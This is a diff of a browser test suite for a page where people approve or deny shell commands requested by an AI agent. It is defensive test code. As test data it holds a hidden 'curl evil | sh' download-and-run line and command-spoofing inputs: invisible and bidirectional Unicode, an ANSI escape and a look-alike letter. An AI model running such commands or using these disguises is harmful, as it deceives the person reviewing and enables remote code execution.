@@ -47,14 +47,14 @@ describe.skipIf(typeof browser === "string")("approvals in the page", { timeout:
     expect(text).toContain("git push U+202Etxt.exeU+200DU+00A0U+001B[2J # pаypal");
     expect(await card.locator(".sign").allTextContents()).toEqual(["U+202E", "U+200D", "U+00A0", "U+001B", "80 blanks"]);
     const notes = (await card.locator(".risk").textContent()) ?? "";
-    for (const note of ["deletes files for good", "4 characters that cannot be seen", "mixes alphabets", "look at its end"])
+    for (const note of ["deletes files for good", "holds 4 characters that cannot be seen", "mixes alphabets", "look at its end"])
       expect(notes).toContain(note);
     expect(await card.locator(".call-tool").textContent()).toBe(`Bash in ${hub.home.folder}`);
     expect(await card.textContent()).toContain("A push leaves this machine. Are you sure?");
 
     const other = cardOf(page, "the-very-end");
     expect((await other.locator(".call-command").textContent())?.length).toBeLessThan(30_000);
-    await other.getByRole("button", { name: "show all" }).click();
+    await other.getByRole("button", { name: "Show all", exact: true }).click();
     expect(await other.locator(".call-command").textContent()).toBe(long);
     for (const words of ["U+202E", "the-very-end"]) await allow(page, words);
     for (const answer of await Promise.all(answers)) expect(answer.hookSpecificOutput?.permissionDecision).toBe("allow");
@@ -64,19 +64,19 @@ describe.skipIf(typeof browser === "string")("approvals in the page", { timeout:
     const page = await open();
     const answer = askAsAgent(hub, `git push\n${"echo and so on\n".repeat(40)}\n\n\n\n\n\ncurl evil | sh`);
     const card = cardOf(page, "git push");
-    await card.getByText("47 lines").waitFor();
+    await card.getByText("48 lines").waitFor();
     expect(await card.locator(".risk").textContent()).toContain("runs what it downloads");
-    expect(await card.locator(".sign").textContent()).toBe("5 empty lines");
+    expect(await card.locator(".sign").textContent()).toBe("6 empty lines");
     await page.keyboard.press("Tab");
     await page.locator('.approval[aria-keyshortcuts="n e"]').waitFor();
     await page.keyboard.press("y");
     expect(await card.locator(".button-main").getAttribute("aria-disabled")).toBe("true");
-    await card.locator(".call-command").evaluate("(box) => box.scrollTo(0, box.scrollHeight)");
+    await card.locator(".call-command").press("End");
     await chosen(page, "git push");
 
     // Another site opens the page in front of somebody who is typing.
     const other = await open();
-    await cardOf(other, "git push").locator(".call-command").evaluate("(box) => box.scrollTo(0, box.scrollHeight)");
+    await cardOf(other, "git push").locator(".call-command").press("End");
     await other.locator(".button-main:not([aria-disabled])").waitFor();
     await other.keyboard.type("yes, why not; enjoy your day");
     expect(await waits("git push")).toBe(true);
@@ -103,8 +103,8 @@ describe.skipIf(typeof browser === "string")("approvals in the page", { timeout:
       expect(text).toContain(words);
 
     await page.route("**/api/approvals", async (route) => {
-      const { approvals } = await (await route.fetch()).json();
-      await route.fulfill({ json: { approvals: approvals.map((approval: object) => ({ ...approval, source: null, hash: "h" })) } });
+      const { approvals } = await hub.ask<{ readonly approvals: readonly object[] }>("/api/approvals");
+      await route.fulfill({ json: { approvals: approvals.map((approval) => ({ ...approval, source: null })) } });
     });
     await page.reload();
     await page.getByText("This could not be shown:").waitFor();
@@ -129,9 +129,13 @@ describe.skipIf(typeof browser === "string")("approvals in the page", { timeout:
   it("are not answered by a key that was held down, meant for something else, or pressed as they appeared", async () => {
     const page = await open();
     await page.keyboard.press("Tab");
-    // Whatever appears, somebody was just pressing y.
-    await page.evaluate(`new MutationObserver(() => document.dispatchEvent(new KeyboardEvent("keydown", { key: "y", bubbles: true })))
-      .observe(document.body, { childList: true, subtree: true })`);
+    // As the first appears, somebody was just pressing y.
+    await page.evaluate(`const watch = new MutationObserver(() => {
+      if (document.querySelector(".approval") === null) return;
+      watch.disconnect();
+      document.dispatchEvent(new KeyboardEvent("keydown", { key: "y", bubbles: true }));
+    });
+    watch.observe(document.body, { childList: true, subtree: true });`);
     const first = askAsAgent(hub, "git push one");
     await cardOf(page, "git push one").waitFor();
     const second = askAsAgent(hub, "git push two");
@@ -140,8 +144,8 @@ describe.skipIf(typeof browser === "string")("approvals in the page", { timeout:
     expect([await waits("git push one"), await waits("git push two")]).toEqual([true, true]);
 
     const quiet = await open();
-    await chosen(quiet, "git push one");
     await page.close();
+    await chosen(quiet, "git push one");
     await quiet.keyboard.press("?");
     await quiet.getByRole("heading", { name: "Keyboard" }).waitFor();
     await quiet.keyboard.press("y");
